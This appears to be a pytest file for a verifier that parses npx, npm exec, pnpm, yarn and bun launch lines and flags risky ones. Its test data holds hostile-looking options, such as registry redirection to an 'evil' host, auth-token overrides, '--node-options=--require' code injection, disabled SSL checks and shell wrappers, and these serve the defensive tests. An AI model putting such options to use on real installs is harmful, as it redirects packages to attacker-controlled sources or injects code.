from __future__ import annotations

import random
import shlex

import pytest

from provenly.trust.errors import UsageError
from provenly.verify.references import launch, launch_flags
from provenly.verify.references.launch_npm import npx_to_npm, read_options
from tests.simulator.npm_oracle import ask

NPX = """
const fs = require('fs'), path = require('path'), Module = require('module')
const {definitions, shorthands} = npm('@npmcli/config/lib/definitions')
const {nopt} = npm('nopt/lib/nopt-lib.js')
const types = Object.fromEntries(Object.entries(definitions).map(([key, {type}]) => [key, type]))
const options = {types, shorthands, typeDefs: npm('@npmcli/config/lib/type-defs.js'),
  unknownHandler: false, abbrevHandler: false, invalidHandler: false}
const root = path.dirname(MODULES)
let source = fs.readFileSync(path.join(root, 'bin/npx-cli.js'), 'utf8').replace(/^#!.*/, '')
console.error = () => {}
const run = words => {
  const process_ = {argv: ['node', 'npx', ...words]}
  const require_ = name => name.includes('cli.js') ? (() => {}) : npm('@npmcli/config/lib/definitions')
  require_.resolve = () => 'npm'
  new Function('require', 'process', 'console', source)(require_, process_, console)
  return process_.argv.slice(2)
}
return questions.map(([runner, words]) => {
  const argv = runner === 'npx' ? run(words) : words
  const data = nopt([...argv], options)
  return {rest: data.argv.remain, packages: data.package ?? [], shell: Boolean(data.call)}
})
"""

LINES = [
    ("npx -y pkg@1.2.3", "npx", ["pkg@1.2.3"], "", []),
    ("npx pkg@latest", "npx", ["pkg@latest"], "", []),
    ("npx -y pkg@latest pkg@0.2.0", "npx", ["pkg@latest"], "", []),
    ("npx -y -- pkg@1 --registry=http://evil", "npx", ["pkg@1"], "", []),
    ("npx -y pkg@1 --registry=http://evil", "npx", ["pkg@1"], "", []),
    ("npx --registry http://evil -y pkg@1", "npx", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --reg=http://evil pkg@1", "npx", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --regis=http://evil pkg@1", "npx", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --@scope:registry=http://evil pkg@1", "npx", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --//evil/:_authToken=x pkg@1", "npx", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --prefix /tmp pkg", "npx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("npx -C /tmp pkg", "npx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --userconfig=/tmp/x pkg", "npx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --node-options=--require=/tmp/x pkg", "npx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("npx --no-strict-ssl pkg", "npx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("npx -p a -c b", "npx", ["a"], "", ["LAUNCH_SHELL"]),
    ("npx -p a@1 -p b@2 c", "npx", ["a@1", "b@2"], "c", []),
    ("npx --package=a b c", "npx", ["a"], "b", []),
    ("npx -yq pkg arg", "npx", ["pkg"], "", []),
    ("npx --yes pkg", "npx", ["pkg"], "", []),
    ("npx --no-install pkg", "npx", ["pkg"], "", []),
    ("npx -n old-node-flag pkg", "npx", ["pkg"], "", []),
    ("/usr/local/bin/npx -y pkg", "npx", ["pkg"], "", []),
    ("npx.cmd -y pkg", "npx", ["pkg"], "", []),
    ("npx -y supergateway --stdio 'npx -y other'", "npx", ["supergateway"], "", ["LAUNCH_NESTED"]),
    ("npx -y pkg --key '${API_KEY}'", "npx", ["pkg"], "", ["LAUNCH_TEMPLATE"]),
    ("npm exec --package=a@1 -- bin x", "npm exec", ["a@1"], "bin", []),
    ("npm exec -- pkg@1 --registry=http://evil", "npm exec", ["pkg@1"], "", []),
    ("npm exec pkg@1 --registry=http://evil", "npm exec", ["pkg@1"], "", ["LAUNCH_OVERRIDE"]),
    ("npm x -y pkg@1", "npm exec", ["pkg@1"], "", []),
    ("npm --silent exec pkg@1", "npm exec", ["pkg@1"], "", []),
    ("pnpm dlx pkg@1 --flag", "pnpm dlx", ["pkg@1"], "", []),
    ("pnpm -s dlx --package a@1 --package=b@2 bin", "pnpm dlx", ["a@1", "b@2"], "bin", []),
    ("pnpm -C /tmp dlx pkg", "pnpm dlx", ["pkg"], "", ["LAUNCH_OVERRIDE"]),
    ("pnpm dlx --package z -c 'x | y'", "pnpm dlx", ["z"], "x | y", ["LAUNCH_SHELL"]),
    ("pnpx pkg@1", "pnpm dlx", ["pkg@1"], "", []),
    ("yarn dlx -q pkg@1", "yarn dlx", ["pkg@1"], "", []),
    ("yarn dlx -p a -p b bin", "yarn dlx", ["a", "b"], "bin", []),
    ("bunx -y pkg@1", "bunx", ["pkg@1"], "", []),
    ("bunx --bun -p a@1 bin", "bunx", ["a@1"], "bin", []),
    ("bun x --bun pkg@1 --package no", "bunx", ["pkg@1"], "", []),
]


@pytest.mark.parametrize(("line", "runner", "packages", "binary", "codes"), LINES, ids=[line[0] for line in LINES])
def test_launch_lines(line: str, runner: str, packages: list[str], binary: str, codes: list[str]):
    read = launch.parse(shlex.split(line))
    assert (read.runner, list(read.packages), read.binary) == (runner, packages, binary)
    assert [note.code for note in read.notes] == codes


@pytest.mark.parametrize(
    ("line", "code", "hint"),
    [
        ("npx", "LAUNCH_NO_PACKAGE", "NAME@VERSION"),
        ("npx -y", "LAUNCH_NO_PACKAGE", "NAME@VERSION"),
        ("npx -c 'something'", "LAUNCH_NO_PACKAGE", "NAME@VERSION"),
        ("npm install pkg", "LAUNCH_UNVERIFIABLE", "npm exec does"),
        ("npm", "LAUNCH_UNVERIFIABLE", "npm exec does"),
        ("yarn add pkg", "LAUNCH_UNVERIFIABLE", "yarn dlx does"),
        ("pnpm exec pkg", "LAUNCH_UNVERIFIABLE", "pnpm dlx does"),
        ("bun run x", "LAUNCH_UNVERIFIABLE", "bun x does"),
        ("pnpm dlx --unheard-of pkg", "LAUNCH_OPTION", "NAME@VERSION"),
        ("bunx --bun=1 pkg", "LAUNCH_OPTION", "NAME@VERSION"),
        ("sh -c 'npx -y pkg'", "LAUNCH_SHELL", "the line that the script runs"),
        ("cmd /c npx -y pkg", "LAUNCH_SHELL", "the line that the script runs"),
        ("cmd.exe /c npx -y pkg", "LAUNCH_SHELL", "the line that the script runs"),
        ("node /opt/server.js", "LAUNCH_UNVERIFIABLE", "./FOLDER"),
        ("docker run x", "LAUNCH_UNVERIFIABLE", ""),
        ("uvx thing", "LAUNCH_UNVERIFIABLE", ""),
        ("env A=b npx -y pkg", "LAUNCH_WRAPPER", "from npx on"),
        ("op run -- npx -y pkg", "LAUNCH_WRAPPER", "from npx on"),
        ("KEY=canary npx -y pkg", "LAUNCH_WRAPPER", "from npx on"),
        ("sudo thing", "LAUNCH_WRAPPER", "NAME@VERSION"),
    ],
)
def test_other_lines_are_refused_with_what_to_write(line: str, code: str, hint: str):
    with pytest.raises(UsageError) as caught:
        launch.parse(shlex.split(line))
    assert caught.value.code == code
    assert hint in caught.value.hint
    assert "canary" not in f"{caught.value.message} {caught.value.hint}"


def test_values_and_arguments_are_never_repeated():
    read = launch.parse(
        [
            "npx",
            "--registry=https://u:canary@h/",
            "--//h/:_authToken=canary",
            "pkg@1",
            "--token",
            "canary",
            "npx canary",
        ]
    )
    assert [note.code for note in read.notes] == ["LAUNCH_OVERRIDE", "LAUNCH_OVERRIDE", "LAUNCH_NESTED"]
    assert "canary" not in repr(read)


def test_the_number_of_words_is_limited():
    with pytest.raises(UsageError) as caught:
        launch.parse(["npx", "pkg", *["x"] * 600])
    assert caught.value.code == "REF_LENGTH"


@pytest.mark.node
def test_the_options_are_those_of_npm():
    booleans, strings, others, shorthands = ask(
        """const {definitions, shorthands} = npm('@npmcli/config/lib/definitions')
        const flag = type => type === Boolean || (Array.isArray(type) && type.includes(Boolean))
        const all = Object.entries(definitions)
        const pick = test => all.filter(([, {type}]) => test(type)).map(([key]) => key)
        return [pick(flag), pick(t => t === String), pick(t => !flag(t) && t !== String), shorthands]""",
        None,
    )
    # Another npm may have other options; those that both have must take values alike.
    theirs = {**dict.fromkeys(booleans, "b"), **dict.fromkeys(strings, "s"), **dict.fromkeys(others, "v")}
    ours = {
        **dict.fromkeys(launch_flags.BOOLEANS, "b"),
        **dict.fromkeys(launch_flags.STRINGS, "s"),
        **dict.fromkeys(launch_flags.VALUED, "v"),
    }
    shared = ours.keys() & theirs.keys()
    assert len(shared) > 100
    assert {name: ours[name] for name in shared} == {name: theirs[name] for name in shared}
    assert {name: list(words) for name, words in launch_flags.SHORTHANDS.items() if name in shorthands} == {
        name: words for name, words in shorthands.items() if name in launch_flags.SHORTHANDS
    }
    assert set(launch_flags.OVERRIDES) <= launch_flags.KNOWN


PIECES = """
-y --yes --yes=false -q -yq -p --package --package=a@1 -p=b -c --call --call=x -- --- - pkg@1 other true false null
--registry --registry=http://x --reg --regis --pack --no-yes --no-install --shell --shell=sh -n --npm --node-arg=x -d
--unknown --unknown=1 --no-unknown -s --silent --color always --browser --tag -C --loglevel --depth -5 --workspace -ws
--iwr -w --tag=x --no-no-yes -dd --verbos pkg@1 other
"""


@pytest.mark.node
def test_random_lines_are_read_as_npm_reads_them():
    chance = random.Random(3)
    pieces = PIECES.split()
    asked = []
    for _ in range(1_500):
        words = [chance.choice(pieces) for _ in range(chance.randint(1, 6))]
        asked.append(["npx", words] if chance.random() < 0.6 else ["npm", ["exec", *words]])
    answers = ask(NPX, asked)
    different = []
    for (runner, words), theirs in zip(asked, answers, strict=True):
        options = read_options(["exec", *npx_to_npm(list(words))] if runner == "npx" else list(words))
        ours = {"rest": options.rest, "packages": options.packages, "shell": options.shell}
        if ours != theirs:
            different.append((runner, words, ours, theirs))
    assert different == []
